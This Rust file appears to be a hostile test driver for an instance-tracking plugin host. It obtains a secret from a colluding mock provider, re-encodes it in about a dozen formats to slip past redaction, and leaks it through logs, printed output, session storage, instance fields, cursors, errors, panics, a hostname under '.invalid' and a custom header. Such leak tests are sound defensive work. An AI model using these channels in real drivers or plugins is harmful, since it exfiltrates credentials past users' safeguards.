//! Attacks with the secret itself, which a provider that is in league with the driver tells it backwards: it is written in a
//! form that anybody can read, to wherever a driver's words go.

use std::fmt::Write as _;

use crate::exports::tracker::driver::inventory::{
    Address, AddressKind, Coverage, Error, Instance, InstancePage, InstanceState, Query,
};
use crate::fetch::{Request, send};
use crate::tracker::driver::credentials::{self, Encoding};
use crate::tracker::driver::log::{self, Level};
use crate::tracker::driver::session;
use crate::{Told, instance, no_such, page};

pub(crate) fn attack(form: &str, told: &Told<'_>, query: &Query) -> Result<InstancePage, Error> {
    let said = written(form, &secret(told)?)?;
    log::write(Level::Warn, &format!("in the log: {said}."));
    println!("printed: {said}.");
    let kept = session::get("key").is_some();
    session::put("key", said.as_bytes(), 600);
    match told.option("value") {
        "list" => {
            let text = || format!("<{said}>");
            // In another state each time, so that there is something to tell.
            let turn = session::get("turn").is_some_and(|turn| turn == b"odd");
            session::put("turn", if turn { b"even" } else { b"odd" }, 600);
            let addresses = vec![Address { kind: AddressKind::Hostname, value: text() }];
            let shown = Instance {
                state: if turn { InstanceState::Running } else { InstanceState::Stopped },
                name: Some(text()),
                owner: Some(text()),
                realm: Some(text()),
                image: Some(text()),
                hardware_profile: Some(text()),
                provider_state: format!("{} {turn} {kept}", text()),
                public_addresses: addresses.clone(),
                private_addresses: addresses,
                labels: vec![(text(), "as a name".into()), ("as a value".into(), text())],
                ..instance("i-1")
            };
            Ok(page(vec![shown, instance(&text())]))
        }
        "partial" => Ok(InstancePage { coverage: Coverage::Partial(format!("partial: {said}.")), ..page(vec![]) }),
        "cursor" => match &query.cursor {
            None => Ok(InstancePage { next: Some(said), ..page(vec![]) }),
            Some(cursor) => Err(Error::UnexpectedAnswer(format!("a cursor came back: {cursor}."))),
        },
        "error" => Err(Error::UnexpectedAnswer(format!("an error: {said}."))),
        "panic" => panic!("it panicked: {said}."),
        "address" => {
            let url = format!("http://{}.invalid/", said.replace(|c: char| !c.is_ascii_alphanumeric(), "-"));
            send(Request { url, headers: vec![], body: vec![] }).map(|answer| page(vec![answer]))
        }
        "header" => {
            let headers = vec![("x-secret".to_owned(), format!("{said}\n").into_bytes())];
            let url = told.account.endpoint.clone();
            send(Request { url, headers, body: vec![] }).map(|answer| page(vec![answer]))
        }
        other => Err(no_such(other)),
    }
}

/// What the provider tells.
fn secret(told: &Told<'_>) -> Result<String, Error> {
    let word = credentials::placeholder("password", Encoding::Raw).unwrap_or_default();
    let headers = vec![("x-secret".to_owned(), word.into_bytes())];
    let url = format!("{}/backwards", told.account.endpoint);
    let answer = send(Request { url, headers, body: vec![] })?;
    let text = answer.name.unwrap_or_default();
    Ok(text.lines().last().unwrap_or_default().chars().rev().collect())
}

fn written(form: &str, secret: &str) -> Result<String, Error> {
    let each = |write: &dyn Fn(u8) -> String| secret.bytes().map(write).collect::<String>();
    Ok(match form {
        "plain" => secret.into(),
        "json" => secret.replace('/', "\\/").replace('"', "\\\"").replace('&', "\\u0026"),
        "json-whole" => each(&|byte| format!("\\u{byte:04X}")),
        "json-twice" => secret.replace('/', "\\\\\\/").replace('"', "\\\\\\\"").replace('&', "\\\\u0026"),
        "xml" => secret.replace('&', "&amp;").replace('"', "&quot;").replace('+', "&#0043;").replace('/', "&#x2f;"),
        "html" => secret.replace('&', "&amp").replace('"', "&QUOT;").replace('+', "&plus;").replace('/', "&sol;"),
        "percent" => each(&|byte| match byte {
            b'-' | b'.' | b'_' | b'~' => char::from(byte).to_string(),
            byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
            byte => format!("%{byte:02x}"),
        }),
        "form" => secret.replace('+', "%2B").replace('&', "%26").replace('"', "%22").replace(' ', "+"),
        "percent-twice" => secret.replace('/', "%252F").replace('+', "%252b").replace('&', "%2526"),
        "hex" => each(&|byte| format!("{byte:02x}")),
        "base64" => base64(format!("mallory:{secret}").as_bytes()),
        "base64-of-json" => base64(format!("{{\"s\":\"{}\"}}", secret.replace('"', "\\\"")).as_bytes()),
        other => return Err(no_such(other)),
    })
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let value = group.iter().fold(0_u32, |value, byte| value << 8 | u32::from(*byte)) << (8 * (3 - group.len()));
        for digit in 0..=group.len() {
            let _ = write!(out, "{}", char::from(DIGITS[(value >> (18 - 6 * digit) & 63) as usize]));
        }
    }
    out
}
